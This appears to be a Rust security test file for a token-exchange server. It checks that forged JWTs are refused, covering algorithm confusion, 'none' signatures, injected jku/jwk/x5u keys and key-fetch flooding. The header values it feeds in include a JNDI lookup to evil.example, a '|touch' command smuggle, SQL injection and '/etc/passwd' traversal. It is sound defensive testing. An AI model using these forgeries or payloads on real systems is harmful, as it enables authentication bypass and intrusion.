//! Attacks on keys and signatures.

use super::*;
use crate::support::*;
use axum::{Router, extract::Request, routing::get};
use data_encoding::BASE64URL_NOPAD;
use futures_util::future::join_all;
use ring::hmac;
use serde_json::json;
use std::{
    net::SocketAddr,
    sync::{
        Arc, Mutex,
        atomic::{AtomicU64, Ordering::SeqCst},
    },
    time::{Duration, UNIX_EPOCH},
};
use tokio::net::TcpListener;
use tower_token_exchange::fetch::HttpFetch;

const REMOTE: &str = "https://remote.example";

/// A server on loopback that answers every path with one key set, and records the paths.
struct Jwks {
    address: SocketAddr,
    asked: Arc<Mutex<Vec<String>>>,
}

impl Jwks {
    async fn serving(keys: String) -> Self {
        let asked = Arc::<Mutex<Vec<String>>>::default();
        let log = Arc::clone(&asked);
        let answer = move |request: Request| {
            log.lock().unwrap().push(request.uri().to_string());
            let keys = keys.clone();
            async move { keys }
        };
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let address = listener.local_addr().unwrap();
        let app = Router::new().route("/jwks.json", get(answer.clone())).fallback(answer);
        tokio::spawn(async move { axum::serve(listener, app).await });
        Self { address, asked }
    }

    fn url(&self, path: &str) -> String {
        format!("http://{}{path}", self.address)
    }

    /// Returns the number of requests, all for the key set.
    fn fetches(&self) -> usize {
        let asked = self.asked.lock().unwrap();
        assert!(asked.iter().all(|uri| uri == "/jwks.json"), "{asked:?}");
        asked.len()
    }
}

/// Returns a world that fetches the keys of one issuer from this server, with a clock that the test sets.
async fn world_of(jwks: &Jwks, clock: &Arc<AtomicU64>) -> World {
    let now = Arc::clone(clock);
    let record = Issuer::new(REMOTE)
        .jwks_uri(jwks.url("/jwks.json"))
        .map_subjects(SubjectMapping::Prefix("remote|".into()))
        .allow_presenters(["orders"]);
    let fetch = HttpFetch::builder().allow_loopback_http().build().unwrap();
    let clock = move || UNIX_EPOCH + Duration::from_secs(now.load(SeqCst));
    plan().with(|builder| builder.issuers([record]).http(fetch).clock(clock)).start().await
}

fn remote() -> Minter {
    Minter::new(REMOTE, Algorithm::ES256)
}

/// Returns a token with this header.
fn under(minter: &Minter, header: Value) -> String {
    minter.sign(&changed(minter.header("JWT"), header), &segment(&minter.foreign(json!({})), 1))
}

/// Attack: the attacker knows the public key, and makes a token that would verify if the token could choose the
/// algorithm.
#[tokio::test]
async fn th_20_a_token_does_not_choose_its_algorithm() {
    use Reason::*;
    let rsa = LocalSigner::from_pem(Algorithm::RS256, include_bytes!("../../data/rsa.pem"))
        .unwrap()
        .with_key_id(key_id("rsa"));
    let partner = Minter { iss: PARTNER, key: rsa };
    let secret = "c2VjcmV0LXNlY3JldC1zZWNyZXQtc2VjcmV0LXNlY3I";
    let symmetric = json!({ "kty": "oct", "k": secret, "kid": "oct" });
    let keys = key_set(jwks(&partner.key).into_iter().chain([symmetric]));
    let record = partner_record(&partner).keys(keys);
    let mut world = plan().with(|builder| builder.issuers([record])).start().await;
    let idp = world.idp.clone();

    let b64 = |bytes: &[u8]| BASE64URL_NOPAD.encode(bytes);
    let unb64 = |text: &Value| BASE64URL_NOPAD.decode(text.as_str().unwrap().as_bytes()).unwrap();
    let forged = |minter: &Minter, header: Value, sign: &dyn Fn(&[u8]) -> Vec<u8>| {
        let claims = segment(&minter.foreign(json!({ "sub": "root" })), 1);
        let input = format!("{}.{}", b64(header.to_string().as_bytes()), b64(claims.to_string().as_bytes()));
        format!("{input}.{}", b64(&sign(input.as_bytes())))
    };
    for minter in [&idp, &partner] {
        let (jwk, kid) = (jwks(&minter.key)[0].clone(), minter.key.key_id());
        let mut secrets = vec![
            ("the public JWK", jwk.to_string().into_bytes()),
            ("the public key set", minter.key.published_keys().to_json().into_bytes()),
            ("nothing", vec![]),
            ("the symmetric key that was published", unb64(&json!(secret))),
        ];
        match jwk["kty"].as_str() {
            Some("RSA") => secrets.push(("the modulus", unb64(&jwk["n"]))),
            _ => secrets.push(("the point", [vec![4], unb64(&jwk["x"]), unb64(&jwk["y"])].concat())),
        }
        for (name, bytes) in secrets {
            for (alg, algorithm) in
                [("HS256", hmac::HMAC_SHA256), ("HS384", hmac::HMAC_SHA384), ("hs256", hmac::HMAC_SHA256)]
            {
                for kid in [kid.as_str(), "oct"] {
                    let tag = |input: &[u8]| hmac::sign(&hmac::Key::new(algorithm, &bytes), input).as_ref().to_vec();
                    let token = forged(minter, json!({ "alg": alg, "kid": kid, "typ": "JWT" }), &tag);
                    let why = format!("{alg} with {name} as `{kid}` of {}", minter.iss);
                    ask_foreign("orders", &token).refused(&mut world, TokenAlgorithmRefused, &why).await;
                }
            }
        }
        for alg in ["none", "None", "NONE", "nOnE", "", "null", "ES256K", "es256", "RS1", "dir"] {
            for signature in [vec![], vec![0], vec![0; 64]] {
                let token = forged(minter, json!({ "alg": alg, "kid": kid }), &|_| signature.clone());
                ask_foreign("orders", &token).refused(&mut world, TokenAlgorithmRefused, alg).await;
            }
        }
        for (alg, reason) in [(json!(null), TokenHeaderMalformed), (json!(["ES256", "none"]), TokenHeaderMalformed)] {
            let token = forged(minter, json!({ "alg": alg, "kid": kid }), &|_| vec![]);
            ask_foreign("orders", &token).refused(&mut world, reason, &alg.to_string()).await;
        }
        // Algorithms that are not the algorithm of the key.
        let wrong = if minter.key.algorithm() == Algorithm::ES256 {
            ["RS256", "PS256", "ES384", "EdDSA"]
        } else {
            ["ES256", "ES384", "EdDSA", "PS256"]
        };
        for alg in wrong {
            let token = under(minter, json!({ "alg": alg }));
            ask_foreign("orders", &token).refused(&mut world, TokenKeyUnknown, alg).await;
        }
        // Empty and invented signatures.
        for signature in [vec![0; 64], vec![0xff; 64], vec![], vec![0; 256]] {
            let alg = minter.key.algorithm().as_str();
            let token = forged(minter, json!({ "alg": alg, "kid": kid }), &|_| signature.clone());
            ask_foreign("orders", &token).refused(&mut world, TokenSignatureInvalid, alg).await;
        }
        ask_foreign("orders", &minter.foreign(json!({}))).token(&mut world, "signed by the issuer").await;
    }
}

/// Attack: the attacker signs with an own key, and the token says where to find this key.
#[tokio::test]
async fn th_21_a_token_does_not_choose_its_key() {
    use Reason::*;
    let (honest, attacker) = (remote(), remote());
    let jwks = Jwks::serving(honest.key.published_keys().to_json()).await;
    let trap = Jwks::serving(attacker.key.published_keys().to_json()).await;
    let mut world = world_of(&jwks, &Arc::new(AtomicU64::new(NOW))).await;
    ask_foreign("orders", &honest.foreign(json!({}))).token(&mut world, "the issuer's").await;
    assert_eq!(jwks.fetches(), 1);

    let (here, jwk) = (trap.url("/jwks.json"), super::jwks(&attacker.key)[0].clone());
    let private = json!({ "kty": "oct", "k": "AAAA" });
    for (why, member) in [
        ("jku", json!({ "jku": here })),
        ("jwk", json!({ "jwk": jwk })),
        ("a secret as jwk", json!({ "jwk": private })),
        ("x5u", json!({ "x5u": here })),
        ("x5c", json!({ "x5c": ["MIIB"] })),
        ("all", json!({ "jku": here, "jwk": jwk, "x5u": here, "url": here, "keys": [jwk], "iss": here })),
    ] {
        let by_name = under(&attacker, changed(member.clone(), json!({ "kid": honest.key.key_id() })));
        ask_foreign("orders", &by_name).refused(&mut world, TokenSignatureInvalid, why).await;
        ask_foreign("orders", &under(&attacker, member)).refused(&mut world, TokenKeyUnknown, why).await;
    }
    let long = "k".repeat(257);
    let with_url = format!("{here}#{}", honest.key.key_id());
    for (kid, reason) in [
        (&*here, TokenKeyUnknown),
        (&*with_url, TokenKeyUnknown),
        ("../../../../../../dev/null", TokenKeyUnknown),
        ("/etc/passwd", TokenKeyUnknown),
        ("..%2f..%2fdev%2fnull", TokenKeyUnknown),
        ("x' UNION SELECT 'AAAA' --", TokenKeyUnknown),
        ("?kid=", TokenKeyUnknown),
        ("${jndi:ldap://evil.example/a}", TokenKeyUnknown),
        ("|touch /tmp/x", TokenKeyUnknown),
        ("*", TokenKeyUnknown),
        ("", TokenKeyUnknown),
        (&long, TokenHeaderMalformed),
        ("a\nb", TokenHeaderMalformed),
        ("a\0", TokenHeaderMalformed),
    ] {
        ask_foreign("orders", &under(&attacker, json!({ "kid": kid }))).refused(&mut world, reason, kid).await;
    }
    // The URL of an unknown issuer is not fetched.
    for iss in [trap.url(""), trap.url("/"), trap.url("/jwks.json")] {
        let token = attacker.foreign(json!({ "iss": iss }));
        ask_foreign("orders", &token).refused(&mut world, TokenIssuerUnknown, &iss).await;
    }
    assert_eq!(trap.fetches(), 0, "the attacker was asked");
    assert_eq!(jwks.fetches(), 2, "one look for a key that may have come since, and no more");
    let unsuspicious = under(&honest, json!({ "jku": here, "jwk": jwk }));
    ask_foreign("orders", &unsuspicious).token(&mut world, "the issuer's own, with a word too much").await;
    assert_eq!(trap.fetches(), 0);
}

/// Attack: the attacker makes the server fetch keys as often as possible, to overload the issuer or this server.
#[tokio::test]
async fn th_22_many_tokens_cause_few_fetches() {
    use Reason::*;
    let honest = remote();
    let clock = Arc::new(AtomicU64::new(NOW));
    let jwks = Jwks::serving(honest.key.published_keys().to_json()).await;
    let mut world = world_of(&jwks, &clock).await;
    let good = honest.foreign(json!({ "exp": NOW + 86_400 }));
    let random = |n: usize| under(&honest, json!({ "kid": format!("random-{n}") }));

    // A request of an unauthenticated client, or with bad parameters, causes no fetch.
    let guess = basic("orders", "a-guess-at-the-secret");
    for n in 0..10 {
        for (authorization, told, reason) in [
            (None, (400, "invalid_client"), ClientCredentialsMissing),
            (Some(&*guess), (401, "invalid_client"), ClientRejected),
        ] {
            let reply = world.post(authorization, ask_foreign("orders", &random(n)).body()).await;
            assert_refused(&mut world, &reply, told, reason, "not authenticated").await;
        }
        let target = ask_foreign("orders", &random(n)).at("ledger");
        target.refused_as("invalid_target", &mut world, TargetNotAllowed, "not a caller").await;
        let iss = format!("https://tenant-{n}.example");
        let stranger = honest.foreign(json!({ "iss": iss }));
        ask_foreign("orders", &stranger).refused(&mut world, TokenIssuerUnknown, &iss).await;
        let unsigned = under(&honest, json!({ "alg": "none", "kid": format!("random-{n}") }));
        ask_foreign("orders", &unsigned).refused(&mut world, TokenAlgorithmRefused, "unsigned").await;
        let undeclared = ask("orders", &random(n));
        undeclared.refused(&mut world, TokenTypeNotAccepted, "of a kind that the issuer is not asked about").await;
    }
    assert_eq!(jwks.fetches(), 0, "before anybody had a right to any");

    // The requests of a known client cause one fetch, and then one fetch each minute.
    ask_foreign("orders", &good).token(&mut world, "the first good one").await;
    assert_eq!(jwks.fetches(), 1);
    for minute in 1..=3 {
        clock.fetch_add(61, SeqCst);
        let floods: Vec<Ask> = (0..20).map(|n| ask_foreign("orders", &random(n))).collect();
        for reply in join_all(floods.iter().map(|flood| flood.send(&world))).await {
            assert_eq!((reply.status.as_u16(), reply.error().as_str()), (400, "invalid_request"));
        }
        for _ in &floods {
            assert_eq!(world.reason().await, Some(TokenKeyUnknown));
        }
        for n in 0..5 {
            ask_foreign("orders", &random(n)).refused(&mut world, TokenKeyUnknown, "one after the other").await;
        }
        assert_eq!(jwks.fetches(), 1 + minute, "in minute {minute}");
        ask_foreign("orders", &good).token(&mut world, "a good one in the flood").await;
    }
    assert_eq!(jwks.fetches(), 4);
}
